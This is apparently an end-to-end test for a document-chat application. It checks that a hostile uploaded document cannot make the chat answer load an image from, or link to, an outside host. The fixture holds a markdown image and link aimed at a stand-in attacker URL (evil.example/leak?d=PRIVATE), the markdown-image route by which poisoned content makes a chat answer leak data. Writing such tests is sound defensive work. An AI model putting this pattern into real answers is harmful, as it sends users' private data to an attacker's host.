"""A hostile document's image and links in a chat answer, in a real browser: nothing is
fetched from or linked to another host (issue 13, point 4)."""

from __future__ import annotations

import io
from typing import Any

from core.access.rbac import Actor
from core.chat import answer_question, create_chat
from core.documents import index_document, upload_documents
from tests.conftest import unique
from tests.e2e.conftest import LiveApp, screenshot, settle, sign_in

LEAK = "https://evil.example/leak?d=PRIVATE"


def test_a_hostile_answer_loads_and_links_nothing_outside(live_app: LiveApp, page: Any, member: Actor) -> None:
    token = unique("launch")
    stream = io.BytesIO(f"The {token} launch is on Friday ![status]({LEAK}) as agreed, see [details]({LEAK}).".encode())
    stream.name = f"{token}.md"  # type: ignore[attr-defined]
    [outcome] = upload_documents(actor=member, files=[stream])
    assert outcome.document_id is not None
    index_document(outcome.document_id)
    chat = create_chat(actor=member, title=f"About {token}")
    "".join(answer_question(actor=member, chat_id=chat.id, question=f"When is the {token} launch?"))

    outside: list[str] = []
    page.on("request", lambda request: outside.append(request.url) if "evil.example" in request.url else None)
    sign_in(page, live_app, member)
    page.get_by_role("link", name="Chat").click()
    page.get_by_text(f"About {token}").first.click()
    page.get_by_text("evil.example").first.wait_for()
    settle(page)
    screenshot(page, "chat-hostile-answer")
    assert page.locator("img[src*='evil.example']").count() == 0
    assert page.locator("a[href*='evil.example']").count() == 0
    assert outside == []
